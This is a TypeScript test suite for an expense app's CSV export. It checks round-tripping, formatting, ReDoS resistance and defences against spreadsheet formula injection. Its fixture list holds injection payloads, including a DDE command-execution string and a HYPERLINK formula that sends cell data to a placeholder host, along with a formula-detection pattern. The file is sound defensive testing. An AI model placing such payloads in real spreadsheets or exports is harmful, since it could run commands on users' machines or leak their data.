import assert from 'node:assert/strict'
import { test } from 'node:test'
import { defuse, toCsv } from '../../src/expenses/csv.ts'
import type { StoredExpense } from '../../src/expenses/expense-store.ts'
import { readCsv } from '../support/csv.ts'

const EXPENSE: StoredExpense = {
  id: '0b0a4c5e-4a35-4f4b-8d6c-0f6a3c8c9d11',
  date: '2026-10-02',
  minorUnits: 7510,
  currency: 'USD',
  category: 'shopping',
  description: 'office supplies',
  payment_method: 'visa',
  created: '2026-10-05T09:30:00.000Z',
}

/** What people, and those who mean harm, may have written down. */
const TEXTS = [
  'office supplies',
  'pens, paper, and "glue"',
  '"',
  '""',
  ',',
  ' spaces around ',
  'two\r\nlines',
  'two\nlines',
  "Bob's",
  "'quoted'",
  "''twice''",
  "'=cmd()",
  '=cmd()',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"receipt")',
  '+1+1',
  '-10 % discount',
  '@SUM(A1)',
  '＝cmd()',
  '＋1',
  '－1',
  '＠SUM',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  '" =1+1',
  '\u202e=1',
  'pens;=1+1',
  'pens; -1',
  "pens;'=1+1;''x",
  'pens\t=1+1',
  'pens\n=1+1',
  '🧀👩🏽‍💻',
  'عشاء مع الفريق',
  'ארוחה, "טובה"',
  'd\u0301ej\u00e0 vu',
]

test('every text reads back as it was, by an independent reader', () => {
  const rows = readCsv(toCsv(TEXTS.map((description) => ({ ...EXPENSE, description }))).slice(1))
  const column = rows[0]?.indexOf('description') ?? -1
  assert.deepEqual(
    rows.slice(1).map((row) => undo(row[column] ?? '')),
    TEXTS,
  )
})

test('it begins with a byte order mark and a header, and rows end with CRLF', () => {
  assert.equal(
    toCsv([EXPENSE, { ...EXPENSE, minorUnits: 5, currency: 'JPY', description: 'a, b' }]),
    [
      '\uFEFFdate,amount,currency,category,description,payment_method,id,created',
      `2026-10-02,75.10,USD,shopping,office supplies,visa,${EXPENSE.id},2026-10-05T09:30:00.000Z`,
      `2026-10-02,5,JPY,shopping,"a, b",visa,${EXPENSE.id},2026-10-05T09:30:00.000Z`,
      '',
    ].join('\r\n'),
  )
})

test('no expenses are a header without rows', () => {
  assert.equal(readCsv(toCsv([]).slice(1)).length, 1)
})

test('CSV injection: no cell begins a formula, in whichever way a spreadsheet parts cells', () => {
  for (const description of TEXTS) {
    const text = toCsv([{ ...EXPENSE, description }])
    // By comma and quotes, as RFC 4180 says; and by semicolon, tab and line break without regard to
    // quotes, as Excel does where the comma is the decimal sign, and what is pasted is parted.
    const cells = [...readCsv(text.slice(1)).flat(), ...text.split(/[;\t\r\n]/)]
    for (const cell of cells) assert.doesNotMatch(cell, FORMULA, JSON.stringify(description))
  }
})

test('an apostrophe is put only where a formula would begin, or one is there already', () => {
  for (const text of [
    'Bread, -10 %',
    'a = b',
    "Bob's",
    'x@example.com',
    'pens; paper',
    '5-3',
    '',
  ]) {
    assert.equal(defuse(text), text)
  }
  assert.equal(defuse('=1'), "'=1")
  assert.equal(defuse("'tis"), "''tis")
  assert.equal(defuse('a;=1'), "a;'=1")
})

test('whatever is defused can be undone by dropping one apostrophe at each place', () => {
  const alphabet = [...'=+-@＝\'"; \t\r\nab\u00a0\u200b']
  let seed = 1
  const random = () => {
    seed = (seed * 48_271) % 2_147_483_647
    return seed
  }
  for (let i = 0; i < 20_000; i++) {
    const length = random() % 8
    const text = Array.from({ length }, () => alphabet[random() % alphabet.length]).join('')
    assert.equal(undo(defuse(text)), text, JSON.stringify(text))
    for (const cell of defuse(text).split(/[;\t\r\n]/)) assert.doesNotMatch(cell, FORMULA)
  }
})

test('a long text made to hold the defusing up takes no time (ReDoS)', () => {
  for (const pump of [' ', ';', ' ;', "'", ' "', '\n', '=', ';=', '\u200b']) {
    const text = pump.repeat(100_000)
    const start = performance.now()
    assert.equal(undo(defuse(text)), text)
    assert.ok(performance.now() - start < 500, JSON.stringify(pump))
  }
})

/** What docs/expenses.md tells a reader to do. */
function undo(text: string): string {
  return text.replace(/(?<=^|[;\t\r\n])'/g, '')
}

const FORMULA = /^[\s\p{Cf}"]*[=+\-@＝＋－＠]/u
